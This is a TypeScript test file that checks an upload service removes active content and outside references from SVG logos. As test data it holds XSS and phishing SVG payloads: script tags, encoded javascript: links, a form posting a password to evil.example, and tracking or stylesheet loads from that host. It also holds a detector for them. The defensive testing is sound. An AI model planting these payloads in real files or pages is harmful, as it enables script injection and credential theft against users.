import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { JSDOM } from 'jsdom';
import { API, RES, TOKEN_HEADER, type Envelope, type UploadToken } from '@sw/protocol';
import { createSession } from '../services/auth/sessions';
import { MAX_SVG_ELEMENTS } from '../services/files/svg';
import { startTestApi, type TestApi } from '../testing/harness';
import { insertAccount } from '../testing/members';

/**
 * SVG logos (issue 26, 6): whatever forms active content or outside references take, the file that is stored
 * (and so served, by us or straight from a bucket without our CSP) holds none of it; the drawing itself stays.
 */

let api: TestApi;
let member: { id: string; token: string };
let upToken: string;
beforeAll(async () => {
  api = await startTestApi();
  const row = await insertAccount(api.deps.database.db, { email: 'svg@buyer.test', pwdHash: 'not-used', nick: 'Buyer' });
  member = { id: row!.id, token: await createSession(api.deps.database.db, row!.id) };
  const envelope = await api.call<UploadToken>(API.upload.token, {}, { token: member.token });
  upToken = envelope.data!.upToken;
});
afterAll(async () => {
  await api?.close();
});

let keys = 0;
async function uploadSvg(svg: string): Promise<{ status: number; key: string }> {
  const key = `logo/svg${Date.now().toString(36)}${++keys}.svg`;
  const form = new FormData();
  form.append('token', upToken);
  form.append('key', key);
  form.append('file', new Blob([svg]), 'logo.svg');
  const response = await api.raw('/files/upload', { method: 'POST', body: form });
  const body = (await response.json()) as Envelope<{ key: string }>;
  expect([RES.OK, RES.INVALID_PARAMS]).toContain(body.meta.res);
  return { status: response.status, key };
}

async function stored(key: string): Promise<string> {
  const file = await api.deps.storage.get(key);
  expect(file).not.toBeNull();
  const chunks: Buffer[] = [];
  for await (const chunk of file!.body) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks).toString('utf8');
}

const { window } = new JSDOM('');
const ACTIVE_ELEMENTS = new Set(['script', 'foreignobject', 'set', 'animate', 'iframe', 'embed', 'object', 'form', 'input']);

/** What in a stored SVG could run, navigate or load something, as a browser parses it (XML). */
function activeParts(svg: string): string[] {
  const found: string[] = [];
  if (/<!ENTITY/i.test(svg)) found.push('entity declaration');
  const document = new window.DOMParser().parseFromString(svg, 'image/svg+xml');
  if (document.getElementsByTagName('parsererror').length) return ['not well-formed'];
  for (const element of Array.from(document.getElementsByTagName('*'))) {
    const name = element.localName.toLowerCase();
    if (ACTIVE_ELEMENTS.has(name)) found.push(`<${element.nodeName}>`);
    if (name === 'style' && /@import|url\(\s*['"]?[^#'"\s]/i.test(element.textContent ?? '')) found.push(`style: ${element.textContent}`);
    for (const attribute of Array.from(element.attributes)) {
      const value = attribute.value.trim();
      if (/^on/i.test(attribute.localName)) found.push(`${attribute.name}=`);
      if (/javascript:/i.test(value)) found.push(`${attribute.name}="${value}"`);
      if (attribute.localName === 'href' && !value.startsWith('#') && !/^data:image\/(png|jpeg|gif|webp);/.test(value)) found.push(`${attribute.name}="${value}"`);
      if (/url\(\s*['"]?[^#'"\s]/i.test(value)) found.push(`${attribute.name}="${value}"`);
    }
  }
  return found;
}

const svg = (body: string, namespaces = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${namespaces} viewBox="0 0 10 10"><rect id="mark" width="10" height="10" fill="#c0a060"/>${body}</svg>`;

const FORMS: [string, string][] = [
  ['namespaced script', svg('<x:script>alert(document.domain)</x:script>', ' xmlns:x="http://www.w3.org/2000/svg"')],
  [
    'namespaced foreignObject',
    svg(
      '<s:foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><form action="https://evil.example/"><input name="password"/></form></div></s:foreignObject>',
      ' xmlns:s="http://www.w3.org/2000/svg"',
    ),
  ],
  ['entity-encoded javascript: link', svg('<a href="&#106;avascript:alert(1)"><circle r="2"/></a>')],
  ['entity-encoded javascript: xlink', svg('<a xlink:href="&#x6A;&#x61;vascript&#58;alert(1)"><circle r="2"/></a>')],
  ['<set> of a link to javascript:', svg('<a href="#mark"><set attributeName="href" to="&#106;avascript:alert(1)"/><circle r="2"/></a>')],
  ['<use> of an outside file', svg('<use href="http://evil.example/sprite.svg#a"/>')],
  ['<use> of an outside file, xlink', svg('<use xlink:href="https://evil.example/sprite.svg#a"/>')],
  ['<image> of an outside picture', svg('<image href="https://evil.example/track.png" width="1" height="1"/>')],
  ['<image> of an embedded SVG document', svg('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="1" height="1"/>')],
  ['CSS @import', svg('<style>@import url("https://evil.example/x.css"); rect { fill: red }</style>')],
  ['CSS @import, escaped', svg('<style>@\\69mport "https://evil.example/x.css";</style>')],
  ['CSS url() to outside', svg('<style>rect { fill: url(https://evil.example/p.svg#g) }</style>')],
  ['presentation attribute url() to outside', svg('<circle r="2" fill="url(https://evil.example/p.svg#g)"/>')],
  ['style attribute url() to outside', svg('<circle r="2" style="filter:url(\'https://evil.example/f.svg#f\')"/>')],
  ['event handler', svg('<circle r="2" onmouseover="alert(1)"/>')],
  ['processing instruction loading a style sheet', `<?xml-stylesheet href="https://evil.example/x.css"?>${svg('')}`],
];

describe('SVG logos', () => {
  it.each(FORMS)('neutralises %s', async (_name, text) => {
    const { status, key } = await uploadSvg(text);
    if (status === 415) return; // Refused: nothing stored.
    expect(status).toBe(200);
    const kept = await stored(key);
    expect(activeParts(kept), kept).toEqual([]);
    if (/xml-stylesheet/.test(text)) expect(kept).not.toContain('xml-stylesheet');
    // The drawing itself is kept.
    expect(kept).toContain('<rect id="mark" width="10" height="10" fill="#c0a060"/>');
    // And the same is what the uploader is served.
    const response = await api.raw(`/files/${key}`, { headers: { [TOKEN_HEADER]: member.token } });
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(kept);
  });

  it('refuses entity declarations and what is not an SVG document', async () => {
    const entity = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY j "&#106;avascript:">]>${svg('<a href="&j;alert(1)"><circle r="2"/></a>')}`;
    expect((await uploadSvg(entity)).status).toBe(415);
    expect((await uploadSvg('<svg viewBox="0 0 10 10"><rect width="10" height="10"/>')).status).toBe(415);
    expect((await uploadSvg('<html><svg xmlns="http://www.w3.org/2000/svg"/></html>')).status).toBe(415);
    // Too many elements to clean in reasonable time: refused before it is parsed.
    expect((await uploadSvg(svg('<circle r="1"/>'.repeat(MAX_SVG_ELEMENTS)))).status).toBe(415);
  });

  it('keeps an ordinary logo: gradients, local references, embedded raster pictures, plain CSS', async () => {
    const logo = svg(
      '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#000"/></linearGradient></defs>' +
        '<style>.a { fill: url(#g) } @media (prefers-color-scheme: dark) { .a { fill: #fff } }</style>' +
        '<circle class="a" r="3" cx="5" cy="5"/><use href="#mark" x="1"/><use xlink:href="#mark" x="2"/>' +
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>',
    );
    const { status, key } = await uploadSvg(logo);
    expect(status).toBe(200);
    const kept = await stored(key);
    expect(activeParts(kept)).toEqual([]);
    for (const part of ['<linearGradient id="g">', '.a { fill: url(#g) }', '@media (prefers-color-scheme: dark)', '<use href="#mark" x="1"/>', 'xlink:href="#mark"', 'href="data:image/png;base64,iVBORw0KGgo="']) {
      expect(kept).toContain(part);
    }
  });
});
